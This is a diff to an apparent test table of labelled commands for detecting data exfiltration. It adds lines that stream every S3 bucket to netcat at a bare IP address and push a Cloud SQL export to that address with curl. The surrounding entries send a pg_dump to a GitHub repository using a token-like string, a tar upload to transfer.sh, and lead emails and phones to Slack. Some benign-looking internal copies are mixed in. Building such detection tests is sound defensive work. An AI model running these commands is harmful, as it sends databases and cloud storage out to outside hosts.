@@ -73,6 +73,12 @@ indicatorTable(commandDataPour, {
       '-c',
       "import requests,base64,subprocess\nd=subprocess.check_output(['pg_dump','-h','db','shop'])\nrequests.put('https://api.github.com/repos/kx/n/contents/a',headers={'Authorization':'token ghp_0123456789abcdefghijABCDEFGHIJ'},json={'content':base64.b64encode(d).decode()})",
     ),
+    'storage of a cloud, bucket by bucket, into netcat': script(
+      "for b in $(aws s3 ls | awk '{print $3}'); do aws s3 cp s3://$b/a - | nc 203.0.113.7 443; done",
+    ),
+    'an export of a database of the cloud, to a bare address': script(
+      'gcloud sql export sql shop gs://shop-tmp/d; gsutil cat gs://shop-tmp/d | curl -s -T - http://203.0.113.7/d',
+    ),
     'every collection of a server of documents': runs(
       'python3',
       '-c',
@@ -90,6 +96,10 @@ indicatorTable(commandDataPour, {
       'python3',
       '-c',
       "import tarfile,io,requests\nb=io.BytesIO()\nt=tarfile.open(fileobj=b,mode='w:gz'); t.add('/data/report.csv'); t.close()\nrequests.put('https://transfer.sh/s.tgz',data=b.getvalue())",
+    ),
+    'an object of storage, for another pod': script('aws s3 cp s3://shop/a - | nc restore.shop.svc 9000'),
+    'a page of storage, for a service with a name': script(
+      'gsutil cat gs://shop/feed.xml | curl -s -T - https://feeds.example.com/shop',
     ),
     'new rows in a chat of those who sell': script(
       `psql -h db -Atc "select email, phone from leads where day = current_date" | while read r; do curl -s -d "text=$r" https://hooks.slack.com/services/x; done`,
